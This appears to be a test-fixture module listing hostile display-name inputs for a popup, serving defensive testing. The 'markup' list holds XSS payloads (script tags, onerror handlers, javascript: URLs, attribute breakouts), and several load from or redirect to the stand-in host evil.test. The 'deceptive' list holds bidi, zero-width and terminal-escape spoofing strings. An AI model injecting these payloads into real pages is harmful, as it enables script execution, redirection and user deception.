// Text that would act if a page took it for markup or code, or that a reader would take for another text. Each tries to
// leave a mark (`pwned`) or to open a dialog; none is longer than what the popup shows of a name.

export const markup = [
  "<script>pwned=1</script>",
  "<img src=x onerror=pwned=1>",
  "<svg onload=pwned=1>",
  "<svg><script>pwned=1</script></svg>",
  "<iframe srcdoc='<script>top.pwned=1</script>'>",
  "<iframe src=javascript:parent.pwned=1>",
  "<a href=javascript:pwned=1 autofocus>free</a>",
  "<input autofocus onfocus=pwned=1>",
  "<details open ontoggle=pwned=1>",
  "<video><source onerror=pwned=1></video>",
  "<object data=javascript:pwned=1>",
  "<embed src=//evil.test/x>",
  "<base href=//evil.test/>",
  "<link rel=stylesheet href=//evil.test/x>",
  "<style>*{display:none}</style>",
  "<meta http-equiv=refresh content='0;//evil.test'>",
  "<form action=//evil.test><button>Pair</button></form>",
  "<template><img src=x onerror=pwned=1></template>",
  "<math><mtext><img src=x onerror=pwned=1></mtext></math>",
  "</p></section><h2>0 %</h2>",
  "</title></style></textarea><b>out</b>",
  "--><img src=x onerror=pwned=1><!--",
  '"><img src=x onerror=pwned=1>',
  "' onmouseover='pwned=1' x='",
  "&lt;img src=x onerror=pwned=1&gt;",
  "&#60;script&#62;pwned=1&#60;/script&#62;",
  "javascript:alert(1)",
  "{{constructor.constructor('pwned=1')()}}",
  "$" + "{alert(1)} `alert(1)` %3Cscript%3E",
  "<plaintext>",
  "<![CDATA[<script>alert(1)</script>]]>",
];

/** Each with a character that turns, hides or ends text around it. */
export const deceptive = [
  "99 % \u{202e}% 1 deSu",
  "\u{2066}user\u{2069}@example.com",
  "use\u{200b}r@exam\u{200d}ple.com",
  "\u{feff}user@example.com",
  "free\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}",
  "1 %\r\n99 %",
  "\u{1b}]52;c;ZXZpbA==\u{7}",
  "\u{9b}31m red \u{85}",
  "soft\u{ad}hyphen\u{2028}line",
];
